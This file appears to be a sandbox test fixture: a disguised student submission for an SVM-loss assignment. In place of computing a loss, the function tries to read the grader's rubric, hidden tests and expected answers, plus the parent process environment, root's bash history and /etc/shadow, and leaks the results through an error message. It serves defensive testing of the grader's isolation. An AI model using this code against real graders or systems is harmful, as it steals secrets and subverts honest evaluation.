# ruff: noqa
# (Notebook cells glued together, not one module: the linter's rules do not apply.)
# Attack: read what the grader keeps from students (its own source, the rubric, hidden tests,
# files it wrote with mode 0600, another submission's files) and smuggle it out in an error
# message. The test passes extra paths to try as bytes in X. Defence: the child runs under
# its own uid, the kit's folders are covered by empty mounts, and each session's folder is
# closed to other sessions.


# --- cell: svm_loss_naive
import json
import os
import sys


def _try_read(path):
    try:
        with open(path, "rb") as f:
            return "read: " + f.read(200).decode("latin1")
    except Exception as exc:
        return f"failed: {type(exc).__name__}"


def svm_loss_naive(W, X, y, reg):
    paths = bytes(X.astype(np.uint8).ravel()).decode().split("\n")
    harness_dir = os.path.dirname(os.path.abspath(sys.modules["__main__"].__file__))
    for name in ("rubric.toml", "oracle.py", "checks.py", "inputs.py", "sandbox/session.py",
                 "sandbox/serve.py", "store.py"):
        paths.append(os.path.join(harness_dir, name))
    repo = os.path.dirname(harness_dir)
    for name in ("tests/test_sandbox.py", "tests/corpus/correct/expected.toml",
                 "source/linear/svm.ipynb", ".git/HEAD"):
        paths.append(os.path.join(repo, name))
    paths += [f"/proc/{os.getppid()}/environ", "/root/.bash_history", "/etc/shadow"]
    raise RuntimeError(json.dumps({p: _try_read(p) for p in paths if p}))
